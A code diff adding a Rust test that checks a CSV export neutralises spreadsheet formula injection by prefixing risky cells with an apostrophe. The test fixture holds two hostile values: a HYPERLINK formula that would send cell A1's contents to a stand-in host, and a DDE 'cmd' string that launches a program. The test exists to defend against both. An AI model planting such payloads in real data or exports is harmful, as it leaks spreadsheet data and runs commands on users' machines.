@@ -111,3 +111,25 @@ fn report_without_a_database_says_no_request_yet() {
         run.stderr
     );
 }
+
+#[test]
+fn the_csv_export_never_hands_a_spreadsheet_a_formula() {
+    let site = Site::fixture("doctors");
+    std::fs::create_dir_all(site.path("data")).unwrap();
+    let store = Store::open(&site.path("data/requests.sqlite")).unwrap();
+    let mut r = request("r1", "dr-ada-bundle", "2026-11-02T10:00:00Z");
+    r.name = "=HYPERLINK(\"https://x.example/?\"&A1,\"Open\")".into();
+    r.message = "@SUM(1+1)*cmd|' /C calc'!A0\nsecond line".into();
+    store.insert(&r, &[], 0, |_| None::<()>).unwrap().unwrap();
+    drop(store);
+    let run = site.run(&["requests", "export", "--csv"]);
+    run.assert_code(0);
+    let mut rows = csv::Reader::from_reader(run.stdout.as_bytes());
+    let row = rows.records().next().unwrap().unwrap();
+    assert_eq!(&row[5], "'=HYPERLINK(\"https://x.example/?\"&A1,\"Open\")");
+    assert_eq!(&row[8], "'@SUM(1+1)*cmd|' /C calc'!A0\nsecond line");
+    assert_eq!(
+        &row[6], "mentee-r1@private.example.net",
+        "plain cells are as typed"
+    );
+}
